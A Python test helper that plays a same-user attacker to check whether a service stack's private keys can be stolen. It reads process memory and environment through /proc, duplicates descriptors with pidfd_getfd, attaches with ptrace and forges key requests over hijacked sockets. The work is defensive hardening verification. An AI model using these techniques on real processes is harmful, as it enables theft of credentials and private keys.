"""A process of the run's user, without capabilities, that tries every route to the run's
private keys: ``python key_thief.py FOLDER OUT.json LAUNCHER_PID [--trace] [--forge]``.

Used by ``tests/services/stack/test_key_theft.py`` and ``bench/bench_reliability.py``. A
service paused before its first instruction (``sitecustomize.py`` of the test writes
``FOLDER/waiting-<pid>`` and waits for ``FOLDER/go-<pid>``) is the start-up race won:
the thief reads its environment, command line and memory, duplicates every file it holds
(``pidfd_getfd``), with ``--trace`` attaches to it (``PTRACE_SEIZE``), with ``--forge``
sends a key request of its own over the duplicated key channel, then lets it go, and peeks
at every socket it duplicated for as long as the run lasts. It also tries the launcher's
and every running service's memory and environment again and again. It stops when
``FOLDER/stop`` appears, and writes what it got to OUT.json: every route tried and whether
it opened, and every 64-hex-digit or key-sized value it read (the candidates; the test
derives their public keys and compares them with the run's).
"""

from __future__ import annotations

import array
import ctypes
import json
import os
import re
import socket
import stat
import sys
import time
from pathlib import Path

PTRACE_SEIZE = 0x4206
SYS_PIDFD_GETFD = 438
HEX = re.compile(rb"[0-9a-f]{64}")
libc = ctypes.CDLL(None, use_errno=True)


class Thief:
    def __init__(self, folder: Path, launcher: int, trace: bool, forge: bool) -> None:
        self.folder, self.launcher, self.trace, self.forge = folder, launcher, trace, forge
        self.routes: dict[str, dict[str, int]] = {}
        self.loot: list[bytes] = []
        self.dups: list[socket.socket] = []
        self.seized: list[int] = []
        self.forged: list[socket.socket] = []
        self.caught: set[int] = set()
        self.why: dict[str, str] = {}
        """Why each route was first refused (the error)."""
        self.hardened: set[int] = set()
        """Services whose memory was refused once: non-dumpable since (keys may be there)."""
        self.peeked: list[bytes] = []

    def tried(self, route: str, opened: bool, why: str = "") -> None:
        counts = self.routes.setdefault(route, {"opened": 0, "refused": 0})
        counts["opened" if opened else "refused"] += 1
        if why:
            self.why.setdefault(route, why)

    def read(self, route: str, path: str, size: int = 1 << 16, offset: int = 0) -> None:
        try:
            with open(path, "rb") as f:
                if offset:
                    f.seek(offset)
                self.loot.append(f.read(size))
            self.tried(route, True)
        except OSError as exc:
            self.tried(route, False, exc.strerror or str(exc))

    def memory(self, pid: int, route: str) -> None:
        """Read the first writable mapping (a heap) of ``pid``, where keys would be."""
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        except OSError:
            self.tried(route, False)
            return
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(x, 16) for x in span.split("-"))
                self.read(route, f"/proc/{pid}/mem", min(end - start, 1 << 22), start)
                return
        self.tried(route, False)

    def open_fd(self, pid: int, fd: int) -> None:
        """Open the file ``fd`` of ``pid`` through ``/proc`` (as a pipe of keys could be),
        without waiting for data."""
        try:
            opened = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            self.tried("open /proc/<pid>/fd/N", False, exc.strerror or str(exc))
            return
        try:
            self.loot.append(os.read(opened, 4096))
        except OSError:
            pass
        finally:
            os.close(opened)
        self.tried("open /proc/<pid>/fd/N", True)

    def steal_fds(self, pid: int) -> None:
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            self.tried("pidfd_open", False)
            return
        try:
            fds = [int(n) for n in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            fds = list(range(3, 64))
        for fd in (n for n in fds if n > 2):  # not its standard streams: the run's own
            self.open_fd(pid, fd)
            got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
            self.tried("pidfd_getfd", got >= 0, os.strerror(ctypes.get_errno()))
            if got >= 0 and stat.S_ISSOCK(os.fstat(got).st_mode):
                self.dups.append(socket.socket(fileno=got))
            elif got >= 0:
                os.close(got)
        os.close(pidfd)

    def forge_request(self) -> None:
        """Ask for the keys over every duplicated socket, with a channel of the thief's."""
        for dup in self.dups:
            mine, theirs = socket.socketpair()
            try:
                dup.sendmsg([json.dumps({"dumpable": False, "tracer": 0}).encode()],
                           [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                             array.array("i", [theirs.fileno()]))])
                self.forged.append(mine)
                self.tried("forged key request", True)
            except OSError:
                self.tried("forged key request", False)
            theirs.close()

    def catch(self, pid: int) -> None:
        """A service paused before its first instruction: everything, then let it go."""
        self.caught.add(pid)
        for part in ("environ", "cmdline"):
            self.read(f"service {part}", f"/proc/{pid}/{part}")
        self.memory(pid, "service memory (start-up race)")
        self.steal_fds(pid)
        if self.trace:
            seized = libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0
            why = os.strerror(ctypes.get_errno())
            if not seized and os.environ.get("THIEF_DEBUG"):
                why += " " + Path(f"/proc/{pid}/status").read_text()[:600]
            self.tried("ptrace seize", seized, why)
            if seized:
                self.seized.append(pid)
        if self.forge:
            self.forge_request()
        (self.folder / f"go-{pid}").write_text("")

    def peek(self) -> None:
        for sock in [*self.dups, *self.forged]:
            try:
                data, ancillary, _, _ = sock.recvmsg(1 << 16, socket.CMSG_SPACE(64),
                                                     socket.MSG_PEEK | socket.MSG_DONTWAIT)
            except (BlockingIOError, OSError):
                continue
            if data:
                self.loot.append(data)
                if data not in self.peeked:
                    self.peeked.append(data)

    def round(self) -> None:
        for entry in self.folder.glob("waiting-*"):
            pid = int(entry.name.split("-")[1])
            if pid not in self.caught:
                self.catch(pid)
        # Before its first instruction (the interpreter starting) the launcher is readable,
        # and holds no key; once it refused, never again.
        once = " once hardened" if self.launcher in self.hardened else ""
        self.memory(self.launcher, f"launcher memory{once}")
        self.read(f"launcher environ{once}", f"/proc/{self.launcher}/environ")
        if not once and not self._readable(self.launcher):
            self.hardened.add(self.launcher)
        try:
            children = Path(f"/proc/{self.launcher}/task/{self.launcher}/children").read_text()
        except OSError:
            children = ""
        for pid in (int(p) for p in children.split()):
            once = pid in self.hardened
            suffix = " once hardened" if once else ""
            self.memory(pid, f"service memory{suffix}")
            self.read(f"service environ{suffix}", f"/proc/{pid}/environ")
            if not once and not self._readable(pid) and self._started(pid):
                self.hardened.add(pid)  # a process never becomes dumpable again
        self.peek()

    @staticmethod
    def _started(pid: int) -> bool:
        """Whether ``pid`` runs a service (past its ``exec``: between ``fork`` and ``exec`` a
        child is as non-dumpable as the launcher, and becomes dumpable again)."""
        try:
            return b"services.stack.child" in Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            return False

    @staticmethod
    def _readable(pid: int) -> bool:
        try:
            with open(f"/proc/{pid}/environ", "rb"):
                return True
        except OSError:
            return False

    def report(self) -> dict:
        found = set()
        for chunk in self.loot:
            found |= {m.decode() for m in HEX.findall(chunk)}
        return {"routes": self.routes, "why": self.why, "candidates": sorted(found),
                "seized": self.seized,
                "caught": sorted(self.caught), "dups": len(self.dups),
                "loot_bytes": sum(len(c) for c in self.loot),
                "peeked": [p.decode(errors="replace")[:200] for p in self.peeked]}


def main(argv: list[str]) -> int:
    folder, out, launcher = Path(argv[0]), Path(argv[1]), int(argv[2])
    thief = Thief(folder, launcher, "--trace" in argv, "--forge" in argv)
    deadline = time.monotonic() + 600
    while not (folder / "stop").exists() and time.monotonic() < deadline:
        thief.round()
        time.sleep(0.02)
    out.write_text(json.dumps(thief.report()))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
